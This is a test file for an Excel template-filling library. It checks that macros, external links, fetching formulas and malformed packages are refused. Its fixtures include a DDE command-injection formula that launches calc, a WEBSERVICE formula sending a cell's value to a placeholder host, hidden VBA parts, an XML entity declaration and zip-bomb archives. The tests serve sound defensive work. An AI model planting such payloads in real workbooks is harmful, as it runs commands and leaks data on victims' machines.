import { describe, expect, test } from 'vitest';
import { UserError } from '../../../src/errors.ts';
import { readZip } from '../../../src/ooxml/zip-reader.ts';
import { compressPart, writeZip } from '../../../src/ooxml/zip-writer.ts';
import { type BookXml, bookBytes, fill } from './book-support.ts';

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE_REL = 'http://schemas.openxmlformats.org/package/2006/relationships';
const TYPES = 'http://schemas.openxmlformats.org/package/2006/content-types';

const relations = (type: string, target: string, mode = ''): string =>
  `<Relationships xmlns="${PACKAGE_REL}"><Relationship Id="rId1" Type="${REL}/${type}" Target="${target}"${mode}/></Relationships>`;
const book = (parts: Readonly<Record<string, string>>, more: Partial<BookXml> = {}): Uint8Array =>
  bookBytes({ sheets: [{ name: 'Bilan', rows: [[1, { A: '{{ figures.contacts }}' }]] }], parts, ...more });
const refusedParts = (bytes: Uint8Array): string[] => fill(bytes).problems.map(({ code, at }) => `${code} ${at}`);

/** The same package, one part replaced or renamed. */
function changed(bytes: Uint8Array, change: (name: string, text: string) => readonly [string, string]): Uint8Array {
  const zip = readZip(bytes, { file: 't.xlsx' });
  return writeZip(
    zip.names.map((name) => {
      const [newName, text] = change(name, new TextDecoder().decode(zip.read(name)));
      return { name: newName, part: compressPart(new TextEncoder().encode(text)) };
    }),
  );
}

describe('what a template brings from outside', () => {
  test('macros are refused whatever their part is called, or kept byte for byte when allowed', () => {
    const named = book({ 'xl/vbaProject.bin': 'VBA' });
    expect(refusedParts(named)).toEqual(['macros xl/vbaProject.bin']);
    expect(refusedParts(book({ 'xl/macrosheets/sheet1.xml': '<m/>' }))).toEqual(['macros xl/macrosheets/sheet1.xml']);
    const hidden = { 'xl/innocent.bin': 'VBA', 'xl/_rels/other.xml.rels': relations('vbaProject', 'innocent.bin') };
    expect(refusedParts(book(hidden))).toEqual(['macros xl/innocent.bin']);
    const declared = `<Types xmlns="${TYPES}"><Override PartName="/xl/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>`;
    expect(refusedParts(book({ 'xl/x.bin': 'VBA', '[Content_Types].xml': declared }))).toEqual(['macros xl/x.bin']);
    const kept = fill(named, undefined, true);
    expect(kept.problems).toEqual([]);
    expect(kept.text('xl/vbaProject.bin')).toBe('VBA');
  });

  test('links to other workbooks, images of the web and connections are refused, links to follow are not', () => {
    expect(refusedParts(book({ 'xl/externalLinks/externalLink1.xml': '<e/>' }))).toEqual([
      'external-links xl/externalLinks/externalLink1.xml',
    ]);
    const mode = ' TargetMode="External"';
    const image = relations('image', 'https://exemple.fr/suivi.png', mode);
    expect(refusedParts(book({ 'xl/drawings/_rels/drawing1.xml.rels': image }))).toEqual([
      'external-links xl/drawings/drawing1.xml',
    ]);
    const connection = {
      'xl/connections.xml': '<c/>',
      'xl/_rels/w.xml.rels': relations('connections', 'connections.xml'),
    };
    expect(refusedParts(book(connection))).toEqual(['external-links xl/connections.xml']);
    const link = relations('hyperlink', 'https://exemple.fr/', mode);
    expect(refusedParts(book({ 'xl/worksheets/_rels/sheet1.xml.rels': link }))).toEqual([]);
    expect(fill(book({ 'xl/externalLinks/externalLink1.xml': '<e/>' }), undefined, true).problems).toEqual([]);
  });
});

test('formulas that would fetch are refused with their cell, texts that name them are not', () => {
  const problemsOf = (formula: string) =>
    fill(bookBytes({ sheets: [{ name: 'Bilan', rows: [[2, { B: formula }]] }] })).problems.map(
      ({ code, sheet, at }) => `${code} ${sheet} ${at}`,
    );
  for (const formula of [
    '=_xlfn.WEBSERVICE("https://exemple.fr/?"&A1)',
    '=1+_xlfn._xlws.IMAGE("https://exemple.fr/a.png")',
    "=cmd|'/C calc'!A0",
    '=RTD("x",,"y")',
  ])
    expect(problemsOf(formula)).toEqual(['external-links Bilan B2']);
  for (const formula of ['=A1&"WEBSERVICE(1)"', '=A1&"|"&A2', '=HYPERLINK("https://exemple.fr")', '=CALLS+1'])
    expect(problemsOf(formula)).toEqual([]);
});

describe('a package out of the ordinary', () => {
  const plain = book({}, { names: '<definedName name="a">Bilan!$A$1</definedName>' });

  test('with prefixes is read and written with them', () => {
    const prefixed = changed(plain, (name, text) => [
      name,
      /sheet1|workbook\.xml$/.test(name)
        ? text
            .replace(/<(\/?)(?=[a-zA-Z])/g, '<$1x:')
            .replace(
              'xmlns="http://schemas.openxmlformats.org/spreadsheetml',
              'xmlns:x="http://schemas.openxmlformats.org/spreadsheetml',
            )
        : text,
    ]);
    const filled = fill(prefixed);
    expect(filled.problems).toEqual([]);
    expect(filled.text('xl/worksheets/sheet1.xml')).toContain('<x:c r="A1"><x:v>1042</x:v></x:c>');
    expect(filled.text('xl/workbook.xml')).toContain('</x:definedNames><x:calcPr fullCalcOnLoad="1"/>');
  });

  test('of the Strict flavour is filled', () => {
    const strict = changed(plain, (name, text) => [
      name,
      text
        .replaceAll(
          'http://schemas.openxmlformats.org/spreadsheetml/2006/main',
          'http://purl.oclc.org/ooxml/spreadsheetml/main',
        )
        .replaceAll(REL, 'http://purl.oclc.org/ooxml/officeDocument/relationships'),
    ]);
    expect(fill(strict).cells()).toEqual({ A1: '1042' });
  });

  test('with parts elsewhere, absolute targets, capitals and no addresses of cells is filled', () => {
    const moved = changed(plain, (name, text) => [
      name === 'xl/worksheets/sheet1.xml' ? 'autre/Feuille.XML' : name,
      text
        .replace('worksheets/sheet1.xml', '/autre/feuille.xml')
        .replace(/ r="(?:A1|1)"/g, '')
        .replace('<sheetData>', '<sheetData><!-- note -->'),
    ]);
    const filled = fill(moved);
    expect(filled.problems).toEqual([]);
    expect(filled.text('autre/Feuille.XML')).toContain('<row r="1"><c r="A1"><v>1042</v></c></row>');
  });

  test('in UTF-16 or with a byte order mark is filled', () => {
    const marked = changed(plain, (name, text) => [name, `\ufeff<?xml version="1.0" encoding="UTF-8"?>\n${text}`]);
    expect(fill(marked).cells()).toEqual({ A1: '1042' });
    const zip = readZip(plain, { file: 't.xlsx' });
    const wide = zip.names.map((name) => {
      const text = new TextDecoder().decode(zip.read(name));
      const bytes = Buffer.from(`\ufeff<?xml version="1.0" encoding="UTF-16"?>\n${text}`, 'utf16le');
      return { name, part: compressPart(bytes) };
    });
    const filled = fill(writeZip(wide));
    expect(filled.cells()).toEqual({ A1: '1042' });
    expect(filled.text('xl/worksheets/sheet1.xml')).toMatch(/^<\?xml version="1.0" encoding="UTF-8"\?>/);
  });

  test('that is no workbook, or that lies, is refused', () => {
    const refusal = (bytes: Uint8Array): string => {
      try {
        fill(bytes);
        return 'filled';
      } catch (error) {
        return error instanceof UserError && 'reason' in error.args
          ? `${error.code} ${String(error.args.reason)}`
          : String(error);
      }
    };
    expect(refusal(plain.subarray(0, plain.length - 30))).toBe('file-refused truncated');
    expect(refusal(plain.subarray(0, Math.floor(plain.length / 2)))).toBe('file-refused truncated');
    expect(
      refusal(changed(plain, (name, text) => [name, name.endsWith('sheet1.xml') ? text.slice(0, -9) : text])),
    ).toBe('file-refused malformed');
    const entity = changed(plain, (name, text) => [
      name,
      name.endsWith('sheet1.xml') ? `<!DOCTYPE a [<!ENTITY b "c">]>${text}` : text,
    ]);
    expect(refusal(entity)).toBe('file-refused malformed');
    expect(refusal(writeZip([{ name: 'a.txt', part: compressPart(new Uint8Array(3)) }]))).toBe(
      'file-refused format-not-read',
    );
    const deep = changed(plain, (name, text) => [
      name,
      name.endsWith('sheet1.xml') ? '<a>'.repeat(9_000) + '</a>'.repeat(9_000) : text,
    ]);
    expect(refusal(deep)).toBe('file-refused malformed');
    const vast = changed(plain, (name, text) => [
      name,
      name.endsWith('sheet1.xml')
        ? text.replace('<sheetData>', `<sheetData>${'<row><c s="1"/></row>'.repeat(600_000)}`)
        : text,
    ]);
    expect(vast.length).toBeLessThan(100_000);
    expect(refusal(vast)).toBe('file-refused bomb');
    const lying = writeZip([
      { name: 'xl/workbook.xml', part: { ...compressPart(new Uint8Array(5_000_000)), size: 10 } },
    ]);
    expect(refusal(lying)).toMatch(/^file-refused (bomb|format-not-read)$/);
  });

  test('keeps the bytes of what needs no change, and the same order', () => {
    const bytes = book({ 'docProps/core.xml': '<a/>', 'xl/media/image1.png': 'PNG', 'xl/theme/theme1.xml': '<t />' });
    const before = readZip(bytes, { file: 't.xlsx' });
    const after = readZip(fill(bytes).bytes, { file: 't.xlsx' });
    expect(after.names).toEqual(before.names);
    const same = before.names.filter((name) =>
      Buffer.from(after.raw(name).compressed).equals(before.raw(name).compressed),
    );
    expect(before.names.filter((name) => !same.includes(name))).toEqual([
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
    ]);
  });

  test('without any marker keeps the bytes of its sheets, even those that may read anything', () => {
    const bytes = bookBytes({ sheets: [{ name: 'Bilan', rows: [[1, { A: '=INDIRECT("B1")' }]] }] });
    const before = readZip(bytes, { file: 't.xlsx' }).raw('xl/worksheets/sheet1.xml');
    expect(readZip(fill(bytes).bytes, { file: 't.xlsx' }).raw('xl/worksheets/sheet1.xml')).toEqual(before);
  });

  test('with an order of computation loses it', () => {
    const parts = {
      'xl/calcChain.xml': '<calcChain><c r="A1"/></calcChain>',
      'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${PACKAGE_REL}"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId9" Type="${REL}/calcChain" Target="calcChain.xml"/></Relationships>`,
      '[Content_Types].xml': `<Types xmlns="${TYPES}"><Override PartName="/xl/calcChain.xml" ContentType="c"/><Override PartName="/xl/workbook.xml" ContentType="w"/></Types>`,
    };
    const filled = fill(book(parts));
    expect(readZip(filled.bytes, { file: 't.xlsx' }).names).not.toContain('xl/calcChain.xml');
    for (const part of ['xl/_rels/workbook.xml.rels', '[Content_Types].xml'])
      expect(filled.text(part)).not.toContain('calcChain');
    expect(filled.text('[Content_Types].xml')).toContain('PartName="/xl/workbook.xml"');
  });
});

describe('a pivot table', () => {
  const location = '<pivotTableDefinition><location ref="D3:E6" firstHeaderRow="1"/></pivotTableDefinition>';
  const withPivot = (rows: BookXml['sheets'][number]['rows'], second: BookXml['sheets'][number]['rows']): Uint8Array =>
    bookBytes({
      sheets: [
        { name: 'Données', rows },
        { name: 'Croisé', rows: second, rels: [['rId1', 'pivotTable', '../pivotTables/pivotTable1.xml']] },
      ],
      parts: {
        'xl/pivotTables/pivotTable1.xml': location,
        'xl/pivotCache/definition1.xml':
          '<pivotCacheDefinition><cacheSource type="worksheet"><worksheetSource ref="A2:B3" sheet="Données"/></cacheSource></pivotCacheDefinition>',
        'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${PACKAGE_REL}">${[1, 2]
          .map((n) => `<Relationship Id="rId${n}" Type="${REL}/worksheet" Target="worksheets/sheet${n}.xml"/>`)
          .join(
            '',
          )}<Relationship Id="rId9" Type="${REL}/pivotCacheDefinition" Target="pivotCache/definition1.xml"/></Relationships>`,
      },
    });
  const data = [
    [2, { A: 'Motif', B: 'Nombre' }],
    [3, { A: '{{ G02.label }}', B: '{{ G02.value }}' }],
  ] as const;

  test('reads all of its source again on opening; what it showed of the markers goes', () => {
    const filled = fill(withPivot(data, [[4, { A: 'x', D: '{{ G02.label }}', E: 0 }]]));
    expect(filled.problems).toEqual([]);
    expect(filled.cells(2)).toEqual({ A4: 'x', E4: '0' });
    const source = filled.text('xl/pivotCache/definition1.xml');
    expect(source).toContain('ref="A2:B5"');
    expect(source).toContain('refreshOnLoad="1"');
  });

  test('moves down, and refuses rows that would be repeated inside of it', () => {
    const below = fill(withPivot(data, [[2, { A: '{{ G02.label }}' }]]));
    expect(below.text('xl/pivotTables/pivotTable1.xml')).toContain('ref="D5:E8"');
    expect(fill(withPivot(data, [[4, { A: '{{ G02.label }}' }]])).problems).toMatchObject([
      { code: 'reference-stuck', sheet: 'Croisé', at: 'xl/pivotTables/pivotTable1.xml', given: 'D3:E6' },
    ]);
  });
});
